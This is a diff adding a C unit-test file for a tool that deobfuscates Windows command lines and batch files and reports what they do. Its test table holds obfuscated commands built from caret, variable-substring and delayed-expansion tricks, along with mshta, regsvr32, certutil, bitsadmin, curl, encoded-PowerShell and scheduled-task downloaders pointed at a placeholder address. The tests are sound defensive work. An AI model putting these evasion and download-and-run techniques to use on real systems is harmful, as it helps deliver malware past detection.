@@ -1,6 +1,104 @@
 /* SPDX-License-Identifier: Apache-2.0 */
+/* Command lines and batch files by hand: what they do, and how certain that is. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <cmocka.h>
-int main(void) { return 0; }
+
+#include "tests/table.h"
+#include "unmask/harness.h"
+
+enum certainty { KNOWN, PARTIAL, NONE };
+
+static const struct row {
+    const char *name, *language, *code;
+    enum effect_kind kind;
+    const char *argument, *want;
+    enum certainty certainty;
+} cases[] = {
+    { "carets", "batch", "c^a^l^c 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "carets in quotes stay", "batch", "calc \"a^b\"", EFFECT_RUN, "command", "calc \"a^b\"", KNOWN },
+    { "variables joined", "batch", "set a=ca\nset b=lc\n%a%%b% 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "substring of PUBLIC", "command", "cmd /c %PUBLIC:~14,1%alc 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "substring from the end of TEMP", "command", "cmd /c calc %TEMP:~-4,2%", EFFECT_RUN, "command", "calc Te", KNOWN },
+    { "substring of a user name is not known", "command", "cmd /c calc %USERNAME:~0,1%", EFFECT_RUN, "command", "calc ⟂", PARTIAL },
+    { "replaced", "batch", "set a=cXalXc\n%a:X=% 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "usual variables stay by name", "batch", "start %TEMP%\\a.exe 1", EFFECT_RUN, "command", "%TEMP%\\a.exe 1", KNOWN },
+    { "undefined in a file is nothing", "batch", "ca%nosuch%lc 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "undefined on a line stays", "command", "cmd /c calc %nosuch%", EFFECT_RUN, "command", "calc %nosuch%", KNOWN },
+    { "delayed", "command", "cmd /V:ON /C\"set A=ca&&set B=lc&&!A!!B! 1\"", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "not delayed", "command", "cmd /C\"set A=ca&&!A!lc 1\"", EFFECT_RUN, "command", "!A!lc 1", KNOWN },
+    { "alphabet and list", "command", "cmd /V:ON/C\"set Q=abcdefghijklmnopqrstuvwxyz &&for %n in (2;0;11;2;99) do set R=!R!!Q:~%n,1!&&if %n==99 call %R:~0%\"", EFFECT_RUN, "command", "calc", KNOWN },
+    { "for /l", "command", "cmd /v:on /c \"set s=1clac&(for /l %i in (4,-1,1) do set t=!t!!s:~%i,1!)&call %t% 1\"", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "for /f over a text", "batch", "for /f \"tokens=2 delims=;\" %%a in (\"x;calc;y\") do %%a 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "echo piped to cmd", "batch", "echo calc 1|cmd", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "path that goes up", "command", "c:\\aaaa\\bbbb\\..\\..\\windows\\system32\\cmd.exe /c calc 1", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "if that holds", "batch", "if \"a\"==\"a\" (calc 1) else calc 2", EFFECT_RUN, "command", "calc 1", KNOWN },
+    { "if that does not", "batch", "if \"a\"==\"b\" (calc 1) else calc 2", EFFECT_RUN, "command", "calc 2", KNOWN },
+    { "if on a file is open", "batch", "if exist x.txt calc 1", EFFECT_RUN, "command", "calc 1", PARTIAL },
+    { "goto", "batch", "goto b\ncalc 1\n:b\ncalc 2", EFFECT_RUN, "command", "calc 2", KNOWN },
+    { "a comment does nothing", "batch", "rem calc 1\n::calc 2", EFFECT_RUN, "command", "", NONE },
+    { "an endless loop ends", "batch", ":a\nset x=%x%y\ngoto a", EFFECT_RUN, "command", "", NONE },
+    { "echo alone runs nothing", "batch", "@echo off\necho calc 1 ^& calc 2", EFFECT_RUN, "command", "", NONE },
+    { "mshta", "command", "mshta http://192.0.2.1/a.html", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.html", KNOWN },
+    { "carets in a url", "command", "cmd /c m^sh^t^a h^tt^p^:/^/0xC0000201/a.html", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.html", KNOWN },
+    { "regsvr32", "command", "regsvr32 /s ..\\a.ocx", EFFECT_LOAD, "path", "..\\a.ocx", KNOWN },
+    { "regsvr32 from afar", "command", "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.sct", KNOWN },
+    { "rundll32", "command", "rundll32 C:\\ProgramData\\a.dll,ssss", EFFECT_LOAD, "function", "ssss", KNOWN },
+    { "certutil", "command", "certutil -urlcache -split -f http://192.0.2.1/a.txt b.txt", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
+    { "curl", "command", "cmd /c curl -s -o %TEMP%\\b.txt http://192.0.2.1/a", EFFECT_DOWNLOAD, "path", "%TEMP%\\b.txt", KNOWN },
+    { "bitsadmin", "command", "bitsadmin /transfer j /download http://192.0.2.1/a C:\\b.txt", EFFECT_DOWNLOAD, "path", "C:\\b.txt", KNOWN },
+    { "message", "command", "cmd /c msg %username% /v Word experienced an error", EFFECT_MESSAGE, "text", "Word experienced an error", KNOWN },
+    { "encoded powershell", "command", "powershell -w hidden -enc UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANQA=", EFFECT_DELAY, "value", "5", KNOWN },
+    { "a script that is written and run", "batch", "echo curl http://192.0.2.1/a -o b.txt>>x.cmd\nstart x.cmd", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
+    { "scheduled task", "command", "schtasks /create /tn n /tr \"mshta http://192.0.2.1/a\" /sc minute", EFFECT_PERSIST, "name", "n", KNOWN },
+};
+
+static void effects(void **state)
+{
+    (void)state;
+    struct table t = { 0 };
+    TABLE_EACH (&t, row, cases) {
+        struct tally *r = tally_unmasked(row->language, NULL, slice_of(row->code));
+        const struct effect *e = NULL;
+        bool found = false;
+        for (size_t n = 0; !found && (e = tally_effect(r, row->kind, n)) != NULL; n++)
+            found = slice_is(tally_argument(e, row->argument), row->want) && e->known == (row->certainty == KNOWN);
+        tally_check(r);
+        if (found != (row->certainty != NONE))
+            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), row->certainty == NONE ? "(nothing)" : row->want);
+        if (row->certainty == NONE && tally_effect(r, row->kind, 0))
+            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), "(nothing)");
+        tally_drop(&r);
+    }
+}
+
+static const char busy[] = "@echo off\nset a=ca^l\nif exist x (set b=c) else goto e\nfor /f \"tokens=1,2* delims=;\" %%a in (\"x;y;z\") do echo %%a>>x.vbs\nfor /l %%i in (1,1,3) do call %a:~0,1%%%i\n:e\npowershell -e QQA= | cmd /v:on /c \"!a!\"";
+
+static void every_beginning(void **state)
+{
+    (void)state;
+    slice whole = slice_of(busy);
+    for (size_t n = 0; n < whole.len; n++) {
+        struct tally *r = tally_unmasked("batch", NULL, slice_sub(whole, 0, n));
+        tally_check(r);
+        tally_drop(&r);
+    }
+}
+
+static void memory_fails_anywhere(void **state)
+{
+    (void)state;
+    for (size_t n = 1; n < 200; n++) {
+        struct tally_options o = { .fail_at = n };
+        struct tally *r = tally_unmasked("batch", &o, slice_of(busy));
+        tally_check(r);
+        tally_drop(&r);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = { cmocka_unit_test(effects), cmocka_unit_test(every_beginning), cmocka_unit_test(memory_fails_anywhere) };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
